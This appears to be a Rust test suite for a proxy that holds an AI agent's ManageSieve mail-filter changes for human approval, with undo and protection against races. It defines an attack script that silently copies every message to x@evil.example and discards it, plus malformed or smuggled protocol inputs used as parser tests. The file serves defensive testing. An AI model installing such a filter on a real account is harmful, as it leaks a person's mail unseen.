//! The ManageSieve door in front of Dovecot's Pigeonhole: what is read, what is held and shown, what is stored, what comes back.

use std::time::Duration;

use latch_ipc::contract::{
    AccountList, Empty, GrantPut, GrantPutParams, HoldList, PanicCall, SettingsSet, TokenRevoke, TokenRevokeParams,
    UndoList, UndoListParams,
};
use latch_ipc::view::{Class, HoldView, Reversible};
use latch_tests::dovecot::{PASSWORD, USER};
use latch_tests::filters::{Client, Filters, put};
use latch_tests::scene::{ACCOUNT, AGENT, issue};
use serde_json::json;

/// What the person has.
pub(crate) const OWN: &str =
    "require \"fileinto\";\r\nif header :contains \"subject\" \"sale\" {\r\n  fileinto \"Trash\";\r\n}\r\n";
/// The attack: every mail goes to somebody else too, and the person sees none of it.
pub(crate) const EVIL: &str = "require \"copy\";\r\nredirect :copy \"x@evil.example\";\r\ndiscard;\r\n";

pub(crate) fn fact<'a>(hold: &'a HoldView, label: &str) -> Option<&'a str> {
    hold.facts.iter().find(|fact| fact.label == label).map(|fact| fact.value.as_str())
}

/// A house in which the person's own script runs.
pub(crate) async fn house(preset: &str) -> Filters {
    let house = Filters::new(preset).await;
    house.runs("main", OWN).await;
    house
}

#[tokio::test]
async fn what_is_stored_is_read_as_it_is() {
    let house = house("read-only").await;
    let mut client = house.client().await;
    assert_eq!(client.ok("LISTSCRIPTS").await, "\"main\" ACTIVE\nOK \"That is all\"");
    let script = client.ok("GETSCRIPT \"main\"").await;
    assert_eq!(script, format!("{{{}}}\n{OWN}\nOK \"That is all\"", OWN.len()));
    let can = client.ok("CAPABILITY").await;
    assert!(can.contains("\"SIEVE\" \"") && can.contains("fileinto") && can.contains("vacation"), "{can}");
    assert!(!can.contains("STARTTLS") && !can.contains("UNAUTHENTICATE") && !can.contains("Pigeonhole"), "{can}");
    assert!(client.ok("HAVESPACE \"new\" 1000").await.starts_with("OK"));
    assert!(client.ok("CHECKSCRIPT {5+}\r\nkeep;").await.starts_with("OK"));
    let wrong = client.no("CHECKSCRIPT {6+}\r\nkeeep;").await;
    assert!(wrong.contains("The mail server says no") && wrong.contains("keeep"), "{wrong}");
    assert_eq!(client.ok("NOOP \"here\"").await, "OK (TAG \"here\") \"Still here\"");
    let missing = client.no("GETSCRIPT \"nothing\"").await;
    assert!(missing.starts_with("NO (NONEXISTENT)"), "{missing}");
    assert!(client.ok("LOGOUT").await.starts_with("OK"));
    assert_eq!(client.reply().await, "", "and it is over");
    assert!(house.engine.call(HoldList, Empty {}).await.is_empty());
}

#[tokio::test]
async fn attack_a_filter_that_sends_mail_away_is_shown_for_what_it_is_and_denied() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    client.send(&put("main", EVIL)).await;
    let hold = house.engine.hold().await;
    assert_eq!((hold.verb.as_str(), hold.class, hold.count), ("Change the mail filter", Class::Divert, 1));
    assert_eq!(fact(&hold, "Script"), Some("main (it runs on all new mail)"));
    assert_eq!(fact(&hold, "Look out"), Some("Sends mail on to x@evil.example (and keeps it)\nThrows mail away"));
    assert_eq!(fact(&hold, "What it does no more"), Some("Files mail into Trash"));
    let new = fact(&hold, "New lines").expect("a difference");
    assert!(new.contains("redirect :copy \"x@evil.example\";") && new.contains("discard;"), "{new}");
    assert!(fact(&hold, "Lines taken away").is_some_and(|lines| lines.contains("fileinto \"Trash\";")));
    let audience = hold.audience.as_ref().expect("somebody is reached");
    let reached: Vec<(&str, &str, bool)> =
        audience.members.iter().map(|one| (one.role.as_str(), one.address.as_str(), one.first_time)).collect();
    assert_eq!(reached, [("forward", "x@evil.example", true)]);
    assert_eq!((hold.reversible, hold.keep.as_str()), (Reversible::Yes, "Don't change it"));
    assert!(hold.retype && !hold.partial && !hold.task_scope);
    crate::classes::wait_until(|| async { !house.engine.hold().await.program.is_empty() }).await;
    assert_eq!(house.dovecot.script("main").as_deref(), Some(OWN), "nothing leaves before the person has spoken");
    house.engine.deny(&hold).await;
    let said = client.reply().await;
    assert!(said.starts_with(&format!("NO \"The person said no ({})", hold.id)), "{said}");
    assert_eq!(house.dovecot.script("main").as_deref(), Some(OWN));
    // The same again is answered with the same no.
    assert!(client.no(&put("main", EVIL)).await.contains("The person said no"));
    house.engine.no_holds().await;
    // So is every other way to let it run.
    let mut person = house.person().await;
    person.ok(&put("other", EVIL)).await;
    client.send("SETACTIVE \"other\"").await;
    let hold = house.engine.hold().await;
    assert_eq!((fact(&hold, "Runs from now on"), fact(&hold, "Ran until now")), (Some("other"), Some("main")));
    assert!(fact(&hold, "Look out").is_some_and(|text| text.contains("x@evil.example")));
    house.engine.deny(&hold).await;
    assert!(client.reply().await.starts_with("NO "));
    assert_eq!(house.dovecot.running().as_deref(), Some("main"));
}

#[tokio::test]
async fn what_is_allowed_is_stored_and_undo_brings_bytes_and_choice_back() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    for (command, verb) in [
        (put("main", EVIL), "Change the mail filter"),
        (put("more", "keep;\r\n"), "Change the mail filter"),
        ("SETACTIVE \"more\"".to_owned(), "Turn on the mail filter"),
        ("RENAMESCRIPT \"more\" \"most\"".to_owned(), "Rename the mail filter"),
        ("SETACTIVE \"\"".to_owned(), "Turn off the mail filter"),
        ("DELETESCRIPT \"main\"".to_owned(), "Delete the mail filter"),
    ] {
        client.send(&command).await;
        let hold = house.engine.hold().await;
        assert_eq!(hold.verb, verb);
        house.allow(&hold).await;
        let said = client.reply().await;
        assert!(said.starts_with("OK "), "{command}: {said}");
    }
    assert_eq!((house.dovecot.script("main"), house.dovecot.running()), (None, None));
    assert_eq!(house.dovecot.script("most").as_deref(), Some("keep;\r\n"));
    let entries = house.engine.call(UndoList, UndoListParams::default()).await;
    assert_eq!(entries.len(), 6);
    assert_eq!(entries[0].text, "Deleted the mail filter");
    let undone = house.undo().await;
    assert_eq!((undone.restored, undone.not_restored.len()), (6, 0), "{undone:?}");
    assert_eq!(house.dovecot.script("main").as_deref(), Some(OWN));
    assert_eq!((house.dovecot.script("more"), house.dovecot.script("most")), (None, None));
    assert_eq!(house.dovecot.running().as_deref(), Some("main"));
}

#[tokio::test]
async fn undo_leaves_alone_what_somebody_changed_since() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    client.send(&put("main", EVIL)).await;
    house.allow(&house.engine.hold().await).await;
    assert!(client.reply().await.starts_with("OK "));
    house.runs("main", "stop;\r\n").await;
    let undone = house.undo().await;
    assert_eq!(undone.restored, 0);
    assert!(undone.not_restored[0].why.contains("the script main was changed since"), "{undone:?}");
    assert_eq!(house.dovecot.script("main").as_deref(), Some("stop;\r\n"));
}

#[tokio::test]
async fn what_changed_between_question_and_answer_is_not_overwritten() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    client.send(&put("main", EVIL)).await;
    let hold = house.engine.hold().await;
    house.runs("main", "stop;\r\n").await;
    house.allow(&hold).await;
    let said = client.reply().await;
    assert!(said.starts_with("NO ") && said.contains("no longer what they were"), "{said}");
    assert_eq!(house.dovecot.script("main").as_deref(), Some("stop;\r\n"));
    assert!(house.engine.call(UndoList, UndoListParams::default()).await.is_empty());
    // Asked again it is another question, about what is there now.
    client.send(&put("main", EVIL)).await;
    let hold = house.engine.hold().await;
    assert!(fact(&hold, "Lines taken away").is_some_and(|lines| lines.contains("stop;")), "{hold:?}");
    house.engine.deny(&hold).await;
    assert!(client.reply().await.starts_with("NO "));
    // What would run may be exchanged behind a name, too.
    house.person().await.ok(&put("other", "keep;\r\n")).await;
    client.send("SETACTIVE \"other\"").await;
    let hold = house.engine.hold().await;
    house.person().await.ok(&put("other", EVIL)).await;
    house.allow(&hold).await;
    assert!(client.reply().await.contains("no longer what they were"));
    assert_eq!(house.dovecot.running().as_deref(), Some("main"));
}

#[tokio::test]
async fn a_script_that_is_only_included_may_not_change_behind_the_question_either() {
    let house = house("ask-everything").await;
    let mut person = house.person().await;
    let include = |name: &str| format!("require \"include\";\r\ninclude :personal \"{name}\";\r\n");
    for (name, text) in [("inner", "keep;\r\n"), ("middle", &include("inner")), ("outer", &include("middle"))] {
        person.ok(&put(name, text)).await;
    }
    let mut client = house.client().await;
    for command in ["SETACTIVE \"outer\"".to_owned(), put("other", &include("middle"))] {
        client.send(&command).await;
        let hold = house.engine.hold().await;
        person.ok(&put("inner", EVIL)).await;
        house.allow(&hold).await;
        let said = client.reply().await;
        assert!(said.starts_with("NO ") && said.contains("no longer what they were"), "{command}: {said}");
        person.ok(&put("inner", "keep;\r\n")).await;
    }
    assert_eq!((house.dovecot.running().as_deref(), house.dovecot.script("other")), (Some("main"), None));
    // One that is not included does not matter, and what is as it was shown runs.
    client.send("SETACTIVE \"outer\"").await;
    let hold = house.engine.hold().await;
    person.ok(&put("apart", EVIL)).await;
    house.allow(&hold).await;
    assert!(client.reply().await.starts_with("OK "));
    client.send("DELETESCRIPT \"inner\"").await;
    let hold = house.engine.hold().await;
    assert!(fact(&hold, "Script").is_some_and(|text| text.contains("the script that runs includes it")), "{hold:?}");
    house.engine.deny(&hold).await;
    assert!(client.reply().await.starts_with("NO "));
}

#[tokio::test]
async fn nobody_is_asked_for_what_is_impossible_or_not_granted() {
    for preset in ["read-only", "organize", "assistant"] {
        let house = house(preset).await;
        let mut client = house.client().await;
        let said = client.no(&put("main", EVIL)).await;
        assert!(said.contains("Nothing was done"), "{preset}: {said}");
        assert!(client.no("SETACTIVE \"\"").await.contains("Nothing was done"));
        assert!(house.engine.call(HoldList, Empty {}).await.is_empty(), "{preset}");
        assert_eq!(house.dovecot.script("main").as_deref(), Some(OWN));
        assert!(client.ok("LISTSCRIPTS").await.contains("main"), "reading goes on");
    }
    let house = house("assistant").await;
    let named = GrantPutParams {
        agent: AGENT.to_owned(),
        account: ACCOUNT.to_owned(),
        preset: "assistant".to_owned(),
        authorization_details: Some(json!([{ "named": ["sieve.put"] }])),
        budgets: None,
        expires_in: None,
    };
    house.engine.call(GrantPut, named).await;
    let mut client = house.client().await;
    client.send(&put("new", "keep;\r\n")).await;
    house.allow(&house.engine.hold().await).await;
    assert!(client.reply().await.starts_with("OK "));
    assert!(client.no("SETACTIVE \"new\"").await.contains("Nothing was done"), "only what is named");
    for (command, code) in [
        ("SETACTIVE \"nothing\"", "NONEXISTENT"),
        ("DELETESCRIPT \"nothing\"", "NONEXISTENT"),
        ("DELETESCRIPT \"main\"", "ACTIVE"),
        ("RENAMESCRIPT \"new\" \"main\"", "ALREADYEXISTS"),
    ] {
        let said = client.no(command).await;
        assert!(said.starts_with(&format!("NO ({code})")), "{command}: {said}");
    }
    assert!(house.engine.call(HoldList, Empty {}).await.is_empty());
}

#[tokio::test]
async fn the_server_has_the_last_word() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    client.send(&put("broken", "this is no sieve\r\n")).await;
    let hold = house.engine.hold().await;
    assert!(fact(&hold, "Look out").is_some_and(|text| text.contains("does not know")), "{hold:?}");
    house.allow(&hold).await;
    let said = client.reply().await;
    assert!(said.starts_with("NO ") && said.contains("The mail server refused it, so nothing was done"), "{said}");
    assert!(house.engine.call(UndoList, UndoListParams::default()).await.is_empty());
    assert_eq!(house.dovecot.script("broken"), None);
}

#[tokio::test]
async fn wrong_logins_are_told_apart_by_nobody_and_nothing_is_done_before() {
    let house = house("ask-everything").await;
    let token = issue(&house.engine, AGENT).await;
    let encoded = |text: String| base64::Engine::encode(&base64::prelude::BASE64_STANDARD, text);
    let logins = house.dovecot.filter_logins();
    let mut said = Vec::new();
    for (user, secret) in [(ACCOUNT, "wrong"), ("nobody", token.as_str()), (USER, PASSWORD)] {
        let mut client = Client::connect(&house.door()).await;
        for early in ["LISTSCRIPTS", "GETSCRIPT \"main\"", "SETACTIVE \"\"", "HAVESPACE \"a\" 5"] {
            assert_eq!(client.no(early).await, "NO \"Log in first: AUTHENTICATE\"");
        }
        let can = client.ok("CAPABILITY").await;
        assert!(can.contains("\"SASL\" \"PLAIN XOAUTH2 OAUTHBEARER\"") && can.contains("\"SIEVE\""), "{can}");
        let response = encoded(format!("\0{user}\0{secret}"));
        said.push(client.no(&format!("AUTHENTICATE \"PLAIN\" \"{response}\"")).await);
    }
    assert!(said[0].contains("No such account for this access token"), "{said:?}");
    assert!(said.iter().all(|one| *one == said[0]), "{said:?}");
    let bearer = format!("auth=Bearer {token}\x01\x01");
    for (mechanism, answer) in [
        ("PLAIN", format!("\0{ACCOUNT}\0{token}")),
        ("XOAUTH2", format!("user={ACCOUNT}\x01{bearer}")),
        ("OAUTHBEARER", format!("n,a={ACCOUNT},\x01host=h\x01port=1\x01{bearer}")),
    ] {
        let mut client = Client::connect(&house.door()).await;
        client.send(&format!("AUTHENTICATE \"{mechanism}\"")).await;
        client.say(format!("{{{}+}}\r\n{}\r\n", encoded(answer.clone()).len(), encoded(answer)).as_bytes()).await;
        let said = client.reply().await;
        assert_eq!(said, "\"\"\nOK \"Welcome\"", "{mechanism}");
        client.no("AUTHENTICATE \"PLAIN\" \"AAAA\"").await;
    }
    let mut client = Client::connect(&house.door()).await;
    for _ in 0..3 {
        client.no("AUTHENTICATE \"PLAIN\" \"AAAA\"").await;
    }
    assert_eq!(client.reply().await, "BYE \"Too many failures\"");
    assert_eq!(house.dovecot.filter_logins(), logins, "no login is passed on");
}

#[tokio::test]
async fn what_is_no_command_goes_nowhere() {
    let house = house("ask-everything").await;
    let token = issue(&house.engine, AGENT).await;
    let logged_in = async || {
        let mut client = Client::connect(&house.door()).await;
        client.login(ACCOUNT, &token).await;
        client
    };
    let mut client = logged_in().await;
    for command in [
        "",
        "UNAUTHENTICATE",
        "STARTTLS",
        "XPUT \"a\" \"b\"",
        "PUTSCRIPT \"a\"",
        "PUTSCRIPT a \"keep;\"",
        "SETACTIVE main",
        "SETACTIVE \"a\" \"b\"",
        "DELETESCRIPT \"\"",
        "DELETESCRIPT \"a\u{1}b\"",
        "GETSCRIPT \"a\0b\"",
        "GETSCRIPT \"main",
        "LISTSCRIPTS x",
        "HAVESPACE \"a\" -1",
        "PUTSCRIPT \"a\" {6+}\r\nke\0ep;",
        "PUTSCRIPT \"a\" {5+}\r\nkeep; LOGOUT",
        "LISTSCRIPTS {5+}\r\nab\r\nc",
    ] {
        let said = client.no(command).await;
        assert!(said.starts_with("NO \""), "{command:?}: {said}");
    }
    // Too long, and read away: what follows is the next command.
    let long = "#".repeat(300 * 1024);
    assert!(client.no(&put("a", &long)).await.starts_with("NO (QUOTA/MAXSIZE)"));
    assert!(client.ok("NOOP").await.starts_with("OK"));
    // Where these end nobody knows, so nothing behind them is looked at.
    for odd in [
        "PUTSCRIPT \"a\" {5}\r\nkeep;\r\nSETACTIVE \"\"\r\n",
        "NOOP\nSETACTIVE \"\"\r\n",
        "NOOP\r\r\nSETACTIVE \"\"\r\n",
        "PUTSCRIPT \"a\" {99999999999+}\r\nSETACTIVE \"\"\r\n",
        "PUTSCRIPT \"a\" ~{5+}\r\nkeep;\r\nSETACTIVE \"\"\r\n",
        &format!("SETACTIVE \"{}\"\r\n", "a".repeat(20_000)),
    ] {
        let mut client = logged_in().await;
        client.say(odd.as_bytes()).await;
        let said = client.reply().await;
        assert!(said.starts_with("BYE "), "{odd:.40}: {said}");
        assert_eq!(client.reply().await, "");
    }
    let mut stranger = Client::connect(&house.door()).await;
    stranger.say(b"AUTHENTICATE \"PLAIN\" {200000+}\r\n").await;
    assert!(stranger.reply().await.starts_with("BYE "), "much too long for a stranger");
    assert!(house.engine.call(HoldList, Empty {}).await.is_empty());
    assert_eq!(house.dovecot.running().as_deref(), Some("main"));
}

#[tokio::test]
async fn how_it_is_cut_and_pipelined_makes_no_difference() {
    let house = house("ask-everything").await;
    let mut client = house.client().await;
    for byte in format!("{}\r\nNOOP \"cut\"\r\n", put("cut", "keep;\r\n")).bytes() {
        client.say(&[byte]).await;
        tokio::task::yield_now().await;
    }
    let hold = house.engine.hold().await;
    assert_eq!(fact(&hold, "New lines"), Some("keep;"));
    house.allow(&hold).await;
    assert!(client.reply().await.starts_with("OK "));
    assert!(client.reply().await.starts_with("OK (TAG \"cut\")"));
    let all = format!("NOOP \"1\"\r\nLISTSCRIPTS\r\n{}\r\nNOOP \"2\"\r\nLOGOUT\r\n", put("two", "stop;\r\n"));
    client.say(all.as_bytes()).await;
    house.allow(&house.engine.hold().await).await;
    for expected in ["OK (TAG \"1\")", "\"", "OK \"Stored", "OK (TAG \"2\")", "OK \"See you\""] {
        let said = client.reply().await;
        assert!(said.starts_with(expected), "{expected}: {said}");
    }
    assert_eq!(house.dovecot.script("two").as_deref(), Some("stop;\r\n"));
}

#[tokio::test]
async fn nobody_answers_in_time_and_that_is_no_denial() {
    let house = house("ask-everything").await;
    house.engine.call(SettingsSet, json!({ "hold_seconds": 2 })).await;
    let mut client = house.client().await;
    let said = client.no(&put("late", "keep;\r\n")).await;
    assert!(said.starts_with("NO (TRYLATER) \"The person has not answered in time. Nothing was done"), "{said}");
    house.engine.no_holds().await;
    house.engine.call(SettingsSet, json!({ "hold_seconds": 600 })).await;
    client.send(&put("late", "keep;\r\n")).await;
    house.allow(&house.engine.hold().await).await;
    assert!(client.reply().await.starts_with("OK "));
    // A client that leaves changes nothing; one that comes again gets the answer.
    client.send("DELETESCRIPT \"late\"").await;
    let hold = house.engine.hold().await;
    drop(client);
    tokio::time::sleep(Duration::from_millis(300)).await;
    house.allow(&hold).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(house.dovecot.script("late").is_some(), "nobody is there to hear of it");
    assert!(house.client().await.ok("DELETESCRIPT \"late\"").await.starts_with("OK"));
    assert_eq!(house.dovecot.script("late"), None);
}

#[tokio::test]
async fn panic_ends_it_and_a_revoked_token_too() {
    let house = house("ask-everything").await;
    let token = issue(&house.engine, AGENT).await;
    let mut client = Client::connect(&house.door()).await;
    client.login(ACCOUNT, &token).await;
    client.ok("LISTSCRIPTS").await;
    house.engine.call(TokenRevoke, TokenRevokeParams { agent: AGENT.to_owned() }).await;
    assert!(client.command("LISTSCRIPTS").await.starts_with("BYE "));
    let mut client = house.client().await;
    client.send(&put("main", EVIL)).await;
    let hold = house.engine.hold().await;
    house.engine.call(PanicCall, Empty {}).await;
    assert_eq!(client.reply().await, "", "cut, not answered");
    assert!(
        house.engine.decide(latch_tests::engine::decision(&hold, latch_ipc::contract::Verdict::Allow)).await.is_err()
    );
    assert_eq!(house.dovecot.script("main").as_deref(), Some(OWN));
    let mut client = Client::connect(&house.door()).await;
    let response = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, format!("\0{ACCOUNT}\0{token}"));
    client.no(&format!("AUTHENTICATE \"PLAIN\" \"{response}\"")).await;
    let accounts = house.engine.call(AccountList, Empty {}).await;
    assert_eq!(accounts[0].filters_at, Some(format!("sieve://127.0.0.1:{}", house.dovecot.sieve_port)));
}

#[tokio::test]
async fn what_an_included_script_does_is_in_the_question_and_undo_compares_it() {
    let house = house("ask-everything").await;
    let mut person = house.person().await;
    let include = |how: &str| format!("require \"include\";\r\ninclude {how};\r\n");
    for (name, text) in [
        ("inner", "keep;\r\n".to_owned()),
        ("evil", EVIL.to_owned()),
        ("outer", include(":personal \"inner\"")),
        ("other", include(":once :personal \"evil\";\r\ninclude :optional \"nothing\"")),
    ] {
        person.ok(&put(name, &text)).await;
    }
    person.ok("SETACTIVE \"outer\"").await;
    let mut client = house.client().await;
    client.send("SETACTIVE \"other\"").await;
    let hold = house.engine.hold().await;
    assert_eq!(
        fact(&hold, "Look out"),
        Some(
            "Runs other scripts, too: \"evil\"\nIn the included \"evil\": sends mail on to x@evil.example (and keeps it)\nIn the included \"evil\": throws mail away\nRuns \"nothing\" as soon as there is one: there is none now"
        )
    );
    let audience = hold.audience.as_ref().expect("somebody is reached");
    assert_eq!(audience.members[0].address, "x@evil.example");
    house.allow(&hold).await;
    assert!(client.reply().await.starts_with("OK "));
    // What would run again is not what ran.
    person.ok(&put("inner", "discard;\r\n")).await;
    let undone = house.undo().await;
    assert_eq!(undone.restored, 0);
    assert!(undone.not_restored[0].why.contains("the script inner was changed since"), "{undone:?}");
    assert_eq!(house.dovecot.running().as_deref(), Some("other"));
    person.ok(&put("inner", "keep;\r\n")).await;
    assert_eq!(house.undo().await.restored, 1);
    assert_eq!(house.dovecot.running().as_deref(), Some("outer"));
    // A script that another one runs is the same, by whatever command it changes.
    client.send(&put("inner", EVIL)).await;
    let hold = house.engine.hold().await;
    assert_eq!(fact(&hold, "Script"), Some("inner (it runs on new mail: the script that runs includes it)"));
    house.engine.deny(&hold).await;
    assert!(client.reply().await.starts_with("NO "));
    // One of the server's own can't be read here.
    client.send(&put("outer", &include(":global \"company\""))).await;
    let hold = house.engine.hold().await;
    let look = fact(&hold, "Look out").expect("something to look out for");
    assert_eq!(look, "Runs \"company\" of your server, which can't be read here: what it does is not known");
    house.engine.deny(&hold).await;
    assert!(client.reply().await.starts_with("NO "));
}
